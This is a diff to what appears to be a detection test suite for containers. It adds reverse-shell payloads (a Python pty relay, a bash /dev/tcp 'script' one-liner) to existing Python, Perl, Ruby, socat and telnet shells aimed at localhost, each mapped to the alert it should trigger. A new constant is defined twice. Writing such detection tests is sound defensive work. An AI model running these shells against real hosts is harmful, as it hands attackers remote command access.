@@ -16,6 +16,8 @@ from watched import Watched
 
 SHELL = "Reverse shell"
 RELAY = "Network relay on a named pipe"
+ON_TERMINAL = "Shell on a terminal made in the container"
+ON_TERMINAL = "Shell on a terminal made in the container"
 BEHIND_RELAY = "Shell started by a network relay"
 NAMELESS = "Program without a name executed in a container"
 
@@ -50,6 +52,18 @@ s = socket.create_connection(("127.0.0.1", {port}))
 for stream in range(3): os.dup2(s.fileno(), stream)
 pty.spawn("/usr/bin/bash")
 """
+# The connection stays with the go-between, whatever it is called; the shell has a terminal.
+PTY_RELAY = """
+import os, pty, select, socket
+s = socket.create_connection(("127.0.0.1", {port}))
+pid, terminal = pty.fork()
+if pid == 0: os.execv("/usr/bin/bash", ["bash"])
+while True:
+    for ready in select.select([s, terminal], [], [])[0]:
+        data = os.read(ready if ready == terminal else s.fileno(), 4096)
+        os.write(s.fileno() if ready == terminal else terminal, data)
+"""
+SCRIPT = "exec 3<>/dev/tcp/127.0.0.1/{port}; /usr/bin/script -qc /usr/bin/bash /dev/null <&3 >&3"
 RUBY = """
 s = TCPSocket.open("127.0.0.1", {port})
 exec("/bin/sh", :in => s, :out => s, :err => s)
@@ -69,7 +83,9 @@ SHELLS = {
     "telnet": (["/bin/sh", "-c", "/bin/busybox mkfifo /tmp/f; /bin/busybox telnet 127.0.0.1 {port} </tmp/f "
                 "| /bin/sh >/tmp/f 2>&1"], [RELAY]),
     "socat with a terminal": (["/usr/bin/socat", "TCP:127.0.0.1:{port}",
-                               "EXEC:/usr/bin/bash,pty,setsid,ctty,stderr"], [BEHIND_RELAY]),
+                               "EXEC:/usr/bin/bash,pty,setsid,ctty,stderr"], [BEHIND_RELAY, ON_TERMINAL]),
+    "a relay to a terminal": (["/usr/bin/python3", "-c", PTY_RELAY], [ON_TERMINAL]),
+    "script": (["/usr/bin/bash", "-c", SCRIPT], [ON_TERMINAL]),
     "python": (["/usr/bin/python3", "-c", PYTHON], [SHELL]),
     "perl": (["/usr/bin/perl", "-e", PERL], [SHELL]),
     "python with a terminal": (["/usr/bin/python3", "-c", PYTHON_PTY], [SHELL]),
